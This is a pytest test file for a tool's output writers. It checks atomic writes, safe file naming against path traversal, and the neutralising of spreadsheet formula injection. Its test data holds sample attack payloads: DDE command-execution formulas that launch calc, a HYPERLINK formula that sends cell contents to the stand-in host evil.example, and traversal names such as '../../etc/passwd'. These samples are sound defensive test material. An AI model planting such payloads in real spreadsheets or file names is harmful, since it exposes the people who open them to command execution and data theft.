"""Outputs are written atomically, neutralised against formula injection and kept inside their directory."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import stat
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from itu_contrib.errors import OutputError
from itu_contrib.outputs import (
    atomic_path,
    atomic_write_bytes,
    atomic_write_text,
    check_output_path,
    is_dangerous,
    neutralize,
    neutralize_frame,
    safe_child,
    sheet_title,
    write_csv,
    write_json,
    write_xlsx,
)
from itu_contrib.problems import Problem, Severity

#: Text a spreadsheet could evaluate, one per dangerous prefix, and classic DDE payloads.
PAYLOADS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "- bullet",
    "-",
    "\uff1d1+1",
    "  =1+1",
]
SAFE_TEXT = ["plain", "a-b", "", "'=already quoted", "C7.e-health", "1-2"]


def _files(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir())


# -- atomic writes ------------------------------------------------------------------------------


def test_atomic_write_bytes_leaves_only_the_target(tmp_path: Path) -> None:
    """An atomic write creates missing parents, writes the bytes and leaves no temporary file."""
    target = tmp_path / "a" / "b" / "out.bin"
    atomic_write_bytes(target, b"new")
    assert target.read_bytes() == b"new"
    assert _files(target.parent) == ["out.bin"]


def test_atomic_write_text_replaces_an_existing_file(tmp_path: Path) -> None:
    """Writing text over an existing file replaces it whole, encoded as asked."""
    target = tmp_path / "out.txt"
    target.write_text("old", encoding="utf-8")
    atomic_write_text(target, "Activités\n", encoding="utf-8")
    assert target.read_bytes() == "Activités\n".encode()
    assert _files(tmp_path) == ["out.txt"]


def test_failure_keeps_the_old_file_and_removes_the_temporary(tmp_path: Path) -> None:
    """An exception while writing leaves the previous file byte-identical and no temporary file."""
    target = tmp_path / "report.xlsx"
    target.write_bytes(b"old content")

    def interrupted_write() -> None:
        with atomic_path(target) as tmp:
            tmp.write_bytes(b"half a fi")
            raise RuntimeError("disk on fire")

    with pytest.raises(RuntimeError, match="disk on fire"):
        interrupted_write()
    assert target.read_bytes() == b"old content"
    assert _files(tmp_path) == ["report.xlsx"]


def test_atomic_path_yields_a_sibling_with_the_same_suffix(tmp_path: Path) -> None:
    """The temporary path is in the target's directory and keeps its suffix (libraries pick formats by it)."""
    target = tmp_path / "out.xlsx"
    with atomic_path(target) as tmp:
        assert tmp.parent == tmp_path
        assert tmp.suffix == ".xlsx"
        assert tmp != target
        tmp.write_bytes(b"x")
    assert target.read_bytes() == b"x"


@pytest.mark.skipif(os.name != "posix", reason="POSIX permission bits")
def test_replacing_keeps_the_permission_bits(tmp_path: Path) -> None:
    """Replacing a file keeps its permission bits rather than the temporary file's."""
    target = tmp_path / "out.csv"
    target.write_text("old")
    target.chmod(0o640)
    atomic_write_text(target, "new")
    assert stat.S_IMODE(target.stat().st_mode) == 0o640


def test_writing_onto_a_directory_is_an_output_error(tmp_path: Path) -> None:
    """A target that is a directory gives OutputError and leaves no temporary file."""
    (tmp_path / "out.csv").mkdir()
    with pytest.raises(OutputError, match=r"out\.csv"):
        atomic_write_text(tmp_path / "out.csv", "x")
    assert _files(tmp_path) == ["out.csv"]


# -- neutralisation -------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_dangerous_text_gets_an_apostrophe(payload: str) -> None:
    """Text starting with = + - @ tab or CR (also DDE payloads) is prefixed with an apostrophe."""
    assert is_dangerous(payload)
    assert neutralize(payload) == "'" + payload


@pytest.mark.parametrize("text", SAFE_TEXT)
def test_safe_text_is_unchanged(text: str) -> None:
    """Text that cannot start a formula is written as it is."""
    assert neutralize(text) == text


@pytest.mark.parametrize("value", [-5, -2.5, 0, True, None, dt.date(2025, 1, 1), float("nan")])
def test_non_text_values_are_unchanged(value: object) -> None:
    """Numbers (negative ones included), booleans, dates and blanks are never touched."""
    assert neutralize(value) is value


def test_neutralize_is_idempotent() -> None:
    """Neutralising twice gives the same text as once."""
    assert all(neutralize(neutralize(p)) == neutralize(p) for p in PAYLOADS)


def test_neutralize_frame_changes_only_text() -> None:
    """Text cells and labels are neutralised; numeric columns keep dtype and values; the input is untouched."""
    df = pd.DataFrame(
        {
            "text": pd.Series(["=1+1", "ok", None], dtype="str"),
            "mixed": pd.Series(["@x", -3, None], dtype=object),
            "cat": pd.Series(["-a", "b", "-a"], dtype="category"),
            "num": [-1, -2, 3],
            "=label": [1.5, -2.5, float("nan")],
        }
    )
    out = neutralize_frame(df)
    assert list(out.columns) == ["text", "mixed", "cat", "num", "'=label"]
    assert out["text"].tolist()[:2] == ["'=1+1", "ok"]
    assert pd.isna(out["text"].iloc[2])
    assert out["mixed"].tolist()[:2] == ["'@x", -3]
    assert out["cat"].tolist() == ["'-a", "b", "'-a"]
    assert out["num"].tolist() == [-1, -2, 3]
    assert out["num"].dtype == df["num"].dtype
    assert df["text"].iloc[0] == "=1+1"


def test_neutralize_frame_is_fast_for_100k_rows() -> None:
    """A 100k-row frame with three text columns is neutralised in well under a couple of seconds."""
    n = 100_000
    df = pd.DataFrame(
        {
            "a": ["=x" if i % 100 == 0 else f"row {i}" for i in range(n)],
            "b": pd.Series([f"-{i}" for i in range(n)], dtype=object),
            "c": ["text"] * n,
            "n": range(n),
        }
    )
    out = neutralize_frame(df)
    assert out["a"].iloc[0] == "'=x"
    assert out["b"].iloc[5] == "'-5"


def _payload_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "payload": PAYLOADS,
            "number": [-(i + 1) for i in range(len(PAYLOADS))],
            "amount": [-0.5 * (i + 1) for i in range(len(PAYLOADS))],
            "codes": [("C5", "-C7")] * len(PAYLOADS),
        }
    )


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    """Read back, every payload cell of a CSV starts with an apostrophe and negative numbers are bare."""
    path = tmp_path / "out.csv"
    write_csv(_payload_frame(), path)
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["payload", "number", "amount", "codes"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in body] == [str(-(i + 1)) for i in range(len(PAYLOADS))]
    assert body[0][2] == "-0.5"
    assert body[0][3] == "C5; -C7"  # joined list: starts with C, so not a formula
    assert _files(tmp_path) == ["out.csv"]
    back = pd.read_csv(path)
    assert back["number"].dtype.kind == "i"


def test_csv_neutralises_a_dangerous_joined_list(tmp_path: Path) -> None:
    """A multi-valued cell whose joined text starts with a dangerous sign is neutralised too."""
    path = tmp_path / "out.csv"
    write_csv(pd.DataFrame({"codes": [("=1+1", "C5")]}), path)
    assert path.read_text(encoding="utf-8").splitlines()[1] == "'=1+1; C5"


def test_xlsx_cells_are_neutralised_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    """Read back, an xlsx has no formula cells, payloads carry the apostrophe and negatives are numbers."""
    path = tmp_path / "out.xlsx"
    frame = _payload_frame()
    frame.columns = ["payload", "number", "amount", '=HYPERLINK("x")']
    write_xlsx({"Activities": frame}, path)
    wb = load_workbook(path)
    ws = wb["Activities"]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    header = [c.value for c in ws[1]]
    assert header == ["payload", "number", "amount", '\'=HYPERLINK("x")']
    # XML parsers read a bare CR back as LF (XML end-of-line handling); openpyxl with lxml (which python-docx
    # brings) writes it as &#13; and it reads back as CR: either way the cell is the neutralised payload
    expected = ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    values = [ws.cell(row=r, column=1).value for r in range(2, len(PAYLOADS) + 2)]
    assert [str(v).replace("\r", "\n") for v in values] == expected
    assert ws["B2"].value == -1
    assert ws["B2"].data_type == "n"
    assert ws["C3"].value == -1.0
    assert ws["A1"].font.b
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width >= 8
    assert _files(tmp_path) == ["out.xlsx"]


def test_xlsx_sheet_names_follow_excel_rules(tmp_path: Path) -> None:
    """Sheet names are cut to 31 characters, stripped of Excel's forbidden characters and made unique."""
    path = tmp_path / "out.xlsx"
    long = "A very long sheet name that Excel would refuse"
    frames = {long: pd.DataFrame({"a": [1]}), "a/b:c": pd.DataFrame({"a": [2]}), "A/B:C": pd.DataFrame({"a": [3]})}
    write_xlsx(frames, path)
    names = load_workbook(path).sheetnames
    assert names == [long[:31], "a_b_c", "A_B_C (2)"]
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in names)


def test_xlsx_writes_dates_blanks_and_control_characters(tmp_path: Path) -> None:
    """Dates stay dates, NaN/NaT/None become blank cells and control characters are shown as codes."""
    path = tmp_path / "out.xlsx"
    df = pd.DataFrame(
        {
            "start": pd.to_datetime(["2025-03-01", None]),
            "note": ["bell\x07here", None],
            "score": [1.5, float("nan")],
        }
    )
    write_xlsx({"t": df}, path)
    ws = load_workbook(path)["t"]
    assert ws["A2"].value == dt.datetime(2025, 3, 1)
    assert ws["A3"].value is None
    assert ws["B2"].value == "bell\\x07here"
    assert ws["C3"].value is None


@pytest.mark.parametrize(
    "name",
    [
        "Sheet 1",
        "=cmd|' /C calc'!A0",
        "[x]",
        "'quoted'",
        "History",
        "x" * 40,
    ],
)
def test_sheet_title_is_valid_for_excel(name: str) -> None:
    """Every generated sheet title is 1-31 characters, without forbidden characters or edge apostrophes."""
    title = sheet_title(name)
    assert 1 <= len(title) <= 31
    assert not set(title) & set("[]:*?/\\")
    assert not title.startswith("'")
    assert not title.endswith("'")
    assert title.casefold() != "history"


# -- output paths -------------------------------------------------------------------------------


def test_output_equal_to_an_input_is_refused(tmp_path: Path) -> None:
    """Writing over an input, named directly or through '..', raises OutputError."""
    src = tmp_path / "in.xlsx"
    src.write_bytes(b"x")
    with pytest.raises(OutputError, match="input"):
        check_output_path(src, [tmp_path / "other.xlsx", src])
    with pytest.raises(OutputError):
        check_output_path(tmp_path / "sub" / ".." / "in.xlsx", [src])
    check_output_path(tmp_path / "out.xlsx", [src])  # a different file is fine


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs symlinks")
def test_output_through_a_symlink_to_an_input_is_refused(tmp_path: Path) -> None:
    """An output path that is a symlink to an input is refused."""
    src = tmp_path / "in.xlsx"
    src.write_bytes(b"x")
    link = tmp_path / "link.xlsx"
    link.symlink_to(src)
    with pytest.raises(OutputError):
        check_output_path(link, [src])


def test_output_hard_linked_to_an_input_is_refused(tmp_path: Path) -> None:
    """An output path that is a hard link to an input is refused."""
    src = tmp_path / "in.csv"
    src.write_bytes(b"x")
    hard = tmp_path / "hard.csv"
    os.link(src, hard)
    with pytest.raises(OutputError):
        check_output_path(hard, [src])


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "..",
        ".",
        "",
        "/absolute/path",
        "a/b\\c",
        "C:\\Windows\\system32",
        "CON",
        "con.txt",
        "LPT1",
        "nul",
        "\x00evil\x1f",
        "..\\..\\x",
        "／etc／passwd",
        "x" * 500,
        "é" * 300,
        " trailing. ",
    ],
)
def test_safe_child_stays_inside_the_directory(tmp_path: Path, name: str) -> None:
    """A file named after untrusted text is created directly inside the directory."""
    child = safe_child(tmp_path, name, ".csv")
    assert child.parent == tmp_path
    assert child.resolve().parent == tmp_path.resolve()
    assert child.suffix == ".csv"
    stem = child.name[: -len(".csv")]
    assert stem
    assert not stem.startswith(".")
    assert stem.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL", "LPT1", "COM1"}
    assert len(child.name.encode()) <= 255
    child.write_text("ok")
    assert _files(tmp_path) == [child.name]


def test_safe_child_keeps_readable_names() -> None:
    """Ordinary names keep their letters, accents and digits."""
    assert safe_child(Path("out"), "Activités 2025", ".csv").name == "Activités_2025.csv"
    assert safe_child(Path("out"), "BDT-report.v2", ".xlsx").name == "BDT-report.v2.xlsx"


def test_safe_child_rejects_a_bad_suffix() -> None:
    """The suffix comes from code and must look like one."""
    with pytest.raises(ValueError, match="suffix"):
        safe_child(Path("out"), "x", "/../y")


# -- JSON -----------------------------------------------------------------------------------------


def test_write_json_is_strict_and_converts_values(tmp_path: Path) -> None:
    """JSON output is valid (NaN as null), with dates ISO, tuples as lists and problems as records."""
    path = tmp_path / "out" / "result.json"
    problem = Problem("invalid-url", Severity.ERROR, "a.xlsx", "Not a URL.", sheet="S", cell="N2", row=2)
    obj = {
        "when": dt.date(2025, 1, 2),
        "nan": float("nan"),
        "codes": ("C5", "C7"),
        "problems": [problem],
        "path": Path("inputs") / "a.xlsx",
        "goals": {3, 1},
    }
    write_json(obj, path)
    back = json.loads(path.read_text(encoding="utf-8"))
    assert back["when"] == "2025-01-02"
    assert back["nan"] is None
    assert back["codes"] == ["C5", "C7"]
    assert back["problems"][0]["severity"] == "error"
    assert list(back["problems"][0]) == list(problem.to_dict())
    assert back["path"] == "inputs/a.xlsx"
    assert back["goals"] == [1, 3]
    assert _files(path.parent) == ["result.json"]
